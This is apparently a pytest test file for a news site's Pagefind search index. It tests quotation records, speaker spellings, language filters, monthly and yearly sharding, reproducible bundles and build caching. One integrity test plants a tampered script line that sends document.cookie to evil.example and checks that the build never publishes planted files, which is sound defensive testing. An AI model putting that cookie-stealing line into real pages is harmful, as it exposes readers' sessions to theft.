"""Search's records (`search/records.py`) and its index: every published
report, each quotation credited to the one person every spelling of their
name leads to, nothing unpublished; Pagefind's bundle made once for the same
records."""

import datetime
import hashlib
import os
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import given, settings, strategies as st

from newsroom.model.people import Person, Speaker
from newsroom.model.report import Quotation, Report
from build_store import Store
from examples import examples
from newsroom.search.generator import UNUSED, Index
from newsroom.search.pagefind_index import PagefindError, Service
from newsroom.reading.plain_text import plain_text
from newsroom.search.records import by_shard, language_filter, report_records, shard_order
from newsroom.search.reproducible import make_reproducible, read

PEOPLE = {
    "fujibiao": Person("Fujibiao", other_names=("Fujimiao", "Fujimoto"), slug="fujibiao"),
    "antony-blinken": Person("Antony Blinken", other_names=("Blinken", "布林肯"), slug="antony-blinken"),
}
# Every name a report may credit a quotation to, and who the register makes of it.
SPELLINGS = {name: person for person in PEOPLE.values() for name in (person.name, *person.other_names)}
UNNAMED = Speaker("court spokesperson", "a spokesperson for the court", kind="unnamed")


def article(quotations, lang="en", href="2021/04/report.html", **fields):
    speakers = {q.speaker.name for q in quotations}
    report = Report(quotations=tuple(quotations), href=href, summary_text="One line.",
                    people={name: SPELLINGS[name] for name in speakers if name in SPELLINGS})
    return SimpleNamespace(report=report, lang=lang, title="A report", _content="<p>Text.</p>",
                           category=SimpleNamespace(name="News"), status="published",
                           **{"date": datetime.datetime(2021, 4, 20, 9, 30), **fields})


def quotation(name, n):
    speaker = UNNAMED if name == UNNAMED.name else Speaker(name)
    return Quotation(speaker, f"words {n}", anchor=f"q{n}")


@given(st.lists(st.sampled_from([*SPELLINGS, UNNAMED.name]), max_size=8))
@settings(deadline=None)
def test_every_quotation_is_one_record_credited_to_the_person_every_spelling_leads_to(names):
    quotations = [quotation(name, n) for n, name in enumerate(names, start=1)]
    [report, *found] = report_records(article(quotations), {})
    assert report["url"] == "2021/04/report.html" and report["filters"]["kind"] == ["report"]
    assert len(found) == len(quotations)
    for record, quoted in zip(found, quotations):
        person = SPELLINGS.get(quoted.speaker.name)
        assert record["url"] == f"2021/04/report.html#{quoted.anchor}" and record["content"] == quoted.text
        assert record["filters"]["kind"] == ["quotation"]
        assert record["filters"].get("speaker") == ([person.slug] if person else None)
        assert record["meta"]["speaker"] == (person.name if person else UNNAMED.label)
    assert report["filters"].get("speaker", []) == sorted({SPELLINGS[n].slug for n in names if n in SPELLINGS})


def test_a_record_keeps_what_a_reader_searches_in_meta_and_the_rest_in_filters():
    [report, record] = report_records(article([quotation("Blinken", 1)]), {"News": {"en": "World"}})
    # Pagefind searches meta's words: a headline, a section, a speaker; never a kind or a date.
    assert record["meta"] == {"headline": "A report", "section": "World", "speaker": "Antony Blinken"}
    assert report["meta"] == {"headline": "A report", "section": "World"}
    assert record["filters"] == {"section": ["News"], "language": ["en"], "year": ["2021"], "date": ["2021-04-20"],
                                 "shown_date": ["Tuesday 20 April 2021"], "kind": ["quotation"],
                                 "speaker": ["antony-blinken"]}
    assert record["sort"] == {"date": "2021-04-20"}
    assert report["content"] == "A report One line. Text."


@pytest.mark.parametrize("tag, language", [
    ("en", "en"), ("en-GB", "en"), ("EN_us", "en"), ("zh", "zh-Hans"), ("zh-CN", "zh-Hans"),
    ("zh-Hans", "zh-Hans"), ("zh-TW", "zh-Hant"), ("zh-hant-HK", "zh-Hant"), ("fr", "fr"), (None, "en")])
def test_a_language_is_filtered_by_its_primary_tag_and_chinese_by_its_script(tag, language):
    assert language_filter(tag) == language


@pytest.mark.parametrize("markup, text", [
    ('<p>Lin said, <span class="quotation" id="q1"><span class="mark">“</span>No.<span class="mark">”</span></span></p>',
     "Lin said, “No.”"),
    ("<p>One.</p><p>Two<sup>1</sup> &amp; three</p>", "One. Two1 & three"),
    ('<figcaption>Outside the court.<span class="credit">Photo: Desk</span></figcaption>', "Outside the court. Photo: Desk"),
    ("<li>a</li><li>b<br>c</li>", "a b c"),
])
def test_the_text_searched_is_the_words_as_read(markup, text):
    assert plain_text(markup) == text


def test_only_what_is_published_is_searched():
    published = article([quotation("Blinken", 1)], href="2021/04/published.html")
    translation = article([], lang="zh-Hant", href="2021/04/published-zh.html")
    unpublished = {kind: [article([quotation("Fujimoto", 1)], href=f"{kind}.html")]
                   for kind in ("drafts", "hidden_articles", "drafts_translations", "hidden_translations")}
    person = PEOPLE["antony-blinken"]
    context = {"articles": [published], "translations": [translation], **unpublished,
               "PEOPLE_QUOTED": [(person, 1)], "person_url": lambda p: f"people/{p.slug}.html"}
    records = site_records(context, {"DEFAULT_LANG": "en"})
    assert [r["url"] for r in records] == ["2021/04/published-zh.html", "2021/04/published.html",
                                           "2021/04/published.html#q1", "people/antony-blinken.html"]
    [person_page] = records[-1:]
    assert person_page["content"] == "Blinken 布林肯" and person_page["filters"]["speaker"] == ["antony-blinken"]


def site_records(context, settings):
    """Every record of the site, in a stable order."""
    return sorted((r for _, records in by_shard(context, settings) for r in records), key=lambda r: r["url"])


def shards(records):
    """The records by the bundle they go in, as the build groups the site's
    (`by_shard`): the newest month's reports, the rest of its year's, the
    years' before, the people's."""
    newest = max((r["filters"]["date"][0][:7] for r in records if "date" in r["filters"]), default=None)
    grouped = {}
    for record in records:
        filters = record["filters"]
        if "year" not in filters:
            bundle = "people"
        elif filters.get("date", [""])[0][:7] == newest:
            bundle = newest
        elif newest is None or filters["year"][0] == newest[:4]:  # undated records: by year
            bundle = filters["year"][0]
        else:
            bundle = "archive"
        grouped.setdefault(bundle, []).append(record)
    return grouped


def write_index(records, folder):
    """One index, by a Pagefind process of its own, as a build makes each."""
    service = Service()
    try:
        service.index(records, folder)
    finally:
        service.close()


RECORDS = [{"url": "a.html", "content": "The court heard nothing.", "language": "und",
            "meta": {"headline": "A"}, "filters": {"kind": ["report"]}},
           {"url": "b.html", "content": "法院什么也没听到。", "language": "zh",
            "meta": {"headline": "B"}, "filters": {"kind": ["report"]}}]


@pytest.mark.integration
def test_pagefind_writes_one_index_for_every_language(tmp_path):
    write_index(RECORDS, tmp_path / "pagefind")
    names = {p.relative_to(tmp_path / "pagefind").as_posix() for p in (tmp_path / "pagefind").rglob("*")}
    assert {"pagefind.js", "pagefind-worker.js", "pagefind-entry.json", "fragment", "index"} <= names
    assert len([n for n in names if n.startswith("fragment/")]) == len(RECORDS)


@pytest.mark.integration
def test_a_record_pagefind_refuses_fails_the_index_saying_why(tmp_path):
    with pytest.raises(PagefindError, match="could not write the search index"):
        write_index([{"url": "a.html", "language": "und"}], tmp_path / "pagefind")
    assert not (tmp_path / "pagefind").exists()


def index(records, folder):
    """The search index of ``records``, as a build with the store in
    ``folder``/cache makes it, the folder's last build finished first."""
    return Index(shards(records).items(), *store_of(folder))


def store_of(folder, builds={}):  # noqa: B006 (the last build of each folder: one at a time)
    """``(store, work folder)`` for a build with the store in ``folder``/cache,
    the folder's last build finished first."""
    if folder in builds:
        builds[folder].commit()
        builds[folder].db.close()
    builds[folder] = store = Store(folder / "cache")
    return store, str(folder / "cache" / "search-work")


@pytest.mark.integration
def test_a_file_added_to_a_bundle_in_the_cache_is_never_published(tmp_path):
    """A planted pagefind.js, or one replaced: the bundle holds only what
    the store recorded making, each file as it recorded it."""
    output = tmp_path / "output"
    first = index([RECORDS[0]], tmp_path)
    first.place(str(output / "one"))
    script = Path(first.bundles[0].files["pagefind.js"])
    made = script.read_bytes()
    os.chmod(script, 0o644)
    script.write_text("fetch('https://evil.example/?' + document.cookie)")
    (script.parent / "extra.js").write_text("planted")
    again = index([RECORDS[0]], tmp_path)
    assert again.bundles[0].files is None, "made again: a file is not what the store made"
    again.place(str(output / "two"))
    assert (output / "two" / first.bundles[0].name / "pagefind.js").read_bytes() == made
    assert not list((output / "two").rglob("extra.js"))


def dated(record, year):
    return {**record, "filters": {**record["filters"], "year": [year]}}


@pytest.mark.integration
def test_each_bundle_is_made_once_for_the_same_records(tmp_path):
    output = tmp_path / "output"
    records = [dated(RECORDS[0], "2021"), dated(RECORDS[1], "2025"), {**RECORDS[0], "url": "people/a.html"}]
    first = index(records, tmp_path)
    # A bundle a shard and index language, the page's language's first.
    assert [b.name for b in first.bundles] == ["2021.und", "people.und", "2025.zh"]
    first.place(str(output / "one"))
    assert sorted(p.name for p in (output / "one").iterdir()) == ["2021.und", "2025.zh", "people.und"]
    entry = "pagefind-entry.json"
    # The same records: the same bundles, linked again.
    index([dict(r) for r in records], tmp_path).place(str(output / "two"))
    assert all(os.path.samefile(output / "one" / y / entry, output / "two" / y / entry)
               for y in ("2021.und", "2025.zh"))
    # A report of 2025 changed: that year is indexed again, and only it.
    changed = index([records[0], {**records[1], "content": "Changed."}, records[2]], tmp_path)
    changed.place(str(output / "three"))
    assert os.path.samefile(output / "one" / "2021.und" / entry, output / "three" / "2021.und" / entry)
    assert not os.path.samefile(output / "one" / "2025.zh" / entry, output / "three" / "2025.zh" / entry)
    # The store keeps the bundles of this build, and no other.
    index([], tmp_path)  # this build finished
    kept = {p.name for p in (tmp_path / "cache" / "objects").rglob("*") if p.is_file()}
    placed = {hashlib.sha256(p.read_bytes()).hexdigest() for p in (output / "three").rglob("*") if p.is_file()}
    assert placed < kept and len(kept - placed) == len(changed.bundles), "the files, and each bundle's listing"
    # What did not change in the year indexed again is the very file the last build placed.
    kept = [p.relative_to(output / "three") for p in (output / "three" / "2025.zh" / "filter").iterdir()]
    assert kept and all(os.path.samefile(output / "one" / name, output / "three" / name) for name in kept)


def on(day, number=0):
    """A report's record dated ``day`` (ISO)."""
    return {**RECORDS[0], "url": f"{day}-{number}.html", "filters": {"year": [day[:4]], "date": [day]}}


def reports_on(*days):
    """A context of reports, one dated each day (ISO), and a person."""
    return {"articles": [article([], href=f"{day}.html", date=datetime.datetime.fromisoformat(day)) for day in days],
            "PEOPLE_QUOTED": [(PEOPLE["antony-blinken"], 1)], "person_url": lambda p: f"people/{p.slug}.html"}


def test_the_newest_month_is_a_bundle_of_its_own_its_year_one_and_the_years_before_one():
    grouped = dict(by_shard(reports_on("2019-05-01", "2024-11-30", "2025-10-31", "2025-11-01", "2025-11-30"), {}))
    assert sorted(grouped, key=shard_order) == ["2025-11", "2025", "archive", "people"]
    assert {shard: [r["url"] for r in records] for shard, records in grouped.items()} == {
        "2025-11": ["2025-11-01.html", "2025-11-30.html"], "2025": ["2025-10-31.html"],
        "archive": ["2019-05-01.html", "2024-11-30.html"], "people": ["people/antony-blinken.html"]}
    # A new month: the one before joins its year; a new year: the year before joins the archive.
    assert sorted(dict(by_shard(reports_on("2025-11-01", "2025-12-01"), {}))) == ["2025", "2025-12", "people"]
    assert sorted(dict(by_shard(reports_on("2025-12-31", "2026-01-01"), {}))) == ["2026-01", "archive", "people"]


def changed_between(output, before, after):
    """The files of ``after`` that are not the very files of ``before``."""
    files = sorted(p.relative_to(output / after) for p in (output / after).rglob("*") if p.is_file())
    return [p for p in files if not (output / before / p).is_file()
            or not os.path.samefile(output / before / p, output / after / p)]


@given(st.lists(st.dates(datetime.date(2019, 1, 1), datetime.date(2021, 12, 31)), max_size=12))
@settings(max_examples=examples(50), deadline=None)
def test_the_site_is_indexed_a_bundle_at_a_time_in_the_bundles_its_records_go_in(dates):
    reports = [article([quotation("Blinken", 1)], href=f"{n}.html",
                       date=datetime.datetime.combine(day, datetime.time(9))) for n, day in enumerate(dates)]
    person = PEOPLE["antony-blinken"]
    context = {"articles": reports, "PEOPLE_QUOTED": [(person, 1)], "person_url": lambda p: f"people/{p.slug}.html"}
    grouped = list(by_shard(context, {}))
    assert len({name for name, _ in grouped}) == len(grouped)
    assert dict(grouped) == shards(site_records(context, {}))


@pytest.mark.integration
def test_a_report_published_into_the_newest_month_changes_none_of_the_years_files(tmp_path):
    output = tmp_path / "output"
    archive = [on(f"2025-{month:02}-{day:02}", n) for n, (month, day) in enumerate(
        [(m, d) for m in (9, 10, 11) for d in (3, 14, 25)])]
    index(archive, tmp_path).place(str(output / "before"))
    index([*archive, on("2025-11-28", 99)], tmp_path).place(str(output / "after"))
    assert {p.parts[0] for p in changed_between(output, "before", "after")} == {"2025-11.und"}
    # A September report edited: its year is indexed again, and what did
    # not change in it (Pagefind's script) is the file the year had.
    edited = [{**archive[0], "content": "Edited."}, *archive[1:], on("2025-11-28", 99)]
    index(edited, tmp_path).place(str(output / "edited"))
    changed = changed_between(output, "after", "edited")
    assert {p.parts[0] for p in changed} == {"2025.und"} and Path("2025.und/pagefind.js") not in changed


@pytest.mark.integration
def test_the_same_records_make_the_same_bundle_byte_for_byte(tmp_path):
    # Enough values in each filter that Pagefind's own order differs run to run.
    records = [{"url": f"r{n}.html", "content": f"report {n}", "language": "und", "meta": {"headline": f"R{n}"},
                "filters": {"year": [str(2000 + n % 9)], "speaker": [f"p{n % 7}", f"p{n % 5}"]},
                "sort": {"date": f"2020-01-{n % 28 + 1:02}"}} for n in range(60)]
    made = []
    for run in range(3):
        folder = tmp_path / f"run{run}"
        write_index(records, folder)
        make_reproducible(folder)
        # What the bundle keeps (Pagefind's own interfaces, which vary too, are left out).
        made.append({p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*")
                     if p.is_file() and not p.name.startswith(UNUSED)})
    assert made[0] == made[1] == made[2]
    filters = [read(tmp_path / "run0" / name) for name in made[0] if name.startswith("filter/")]
    assert all(values == sorted(values) for _, values in filters)


@pytest.mark.parametrize("lang, index", [("en", "und"), ("fr", "und"), ("ar", "und"), ("ug-Cyrl", "und"),
                                         ("zh", "zh"), ("zh-Hant", "zh"), ("zh-TW", "zh"), ("ja", "ja")])
def test_chinese_and_japanese_are_segmented_and_every_other_language_indexed_in_words(lang, index):
    from newsroom.search.records import index_language
    assert index_language(lang) == index


def test_a_person_record_says_whether_it_is_a_person_or_an_organisation():
    from newsroom.model.people import Person
    from newsroom.search.records import person_record
    made = person_record(Person("Prison Watch", kind="organisation", slug="prison-watch"), "people/p.html", "en")
    assert made["filters"]["quoted"] == ["organisation"] and made["language"] == "und"


def described(texts, code):
    """A month's reports (``texts``) as a build of ``code`` describes them
    (`Described`), and a count of the times their records are made."""
    from newsroom.search.generator import Described

    reports = [article([], href=f"2021/04/r{n}.html", url=f"2021/04/r{n}.html") for n in range(len(texts))]
    for report, text in zip(reports, texts):
        report._content = f"<p>{text}</p>"
    keys = SimpleNamespace(parts={"plugin newsroom": code}, whole=lambda report: [report.url, report._content])
    made = Described(reports, keys, {})
    count, maker = [], made.maker
    made.maker = lambda language: (lambda: count.append(language) or maker(language)())
    return made, count


@pytest.mark.integration
def test_a_change_of_code_that_leaves_a_bundles_records_as_they_were_links_the_bundle_the_store_made(tmp_path):
    output = tmp_path / "output"
    entry = "2021-04.und/pagefind-entry.json"

    def build(name, texts, code):
        made, count = described(texts, code)
        site = Index([("2021-04", made)], *store_of(tmp_path))
        remade = site.bundles[0].files is None
        site.place(str(output / name))
        return remade, len(count)

    assert build("one", ["First.", "Second."], "code 1") == (True, 2)  # looked up, then indexed
    # Other code, the same records: found by them, not indexed again.
    assert build("two", ["First.", "Second."], "code 2") == (False, 1)
    assert os.path.samefile(output / "one" / entry, output / "two" / entry)
    # That code again: found by its description, no records made.
    assert build("three", ["First.", "Second."], "code 2") == (False, 0)
    assert os.path.samefile(output / "one" / entry, output / "three" / entry)
    # The first code's description, forgotten by a build without it: found by the records again.
    assert build("four", ["First.", "Second."], "code 1") == (False, 1)
    # Other records: indexed again, and searched as they now read.
    assert build("five", ["First.", "Changed."], "code 2") == (True, 2)
    assert not os.path.samefile(output / "one" / entry, output / "five" / entry)


@pytest.mark.integration
def test_a_build_that_ends_before_pagefind_is_done_stops_it(tmp_path):
    """A build stopped while it waits on an index (SIGTERM: deploy/build.py
    exits as a failed build does) leaves no Pagefind behind, indexing on."""
    import subprocess
    import sys

    slow = tmp_path / "pagefind"
    slow.write_text("#!/bin/sh\nexec sleep 600\n")
    slow.chmod(0o755)
    plugins = str(Path(__file__).parents[2])
    started = subprocess.run([sys.executable, "-c", (
        f"import importlib, sys; sys.path.insert(0, {plugins!r})\n"
        "index = importlib.import_module('newsroom.search.pagefind_index')\n"
        f"index.get_executable = lambda: {str(slow)!r}\n"
        "print(index.Service().process.pid, flush=True)\n"
        "sys.exit('Build stopped')\n")], capture_output=True, text=True, timeout=120)
    pid = int(started.stdout)
    status = Path(f"/proc/{pid}/status")
    running = status.exists() and "State:\tZ" not in status.read_text()
    if running:
        os.kill(pid, 9)
    assert started.returncode == 1 and "Build stopped" in started.stderr
    assert not running, "Pagefind still running"
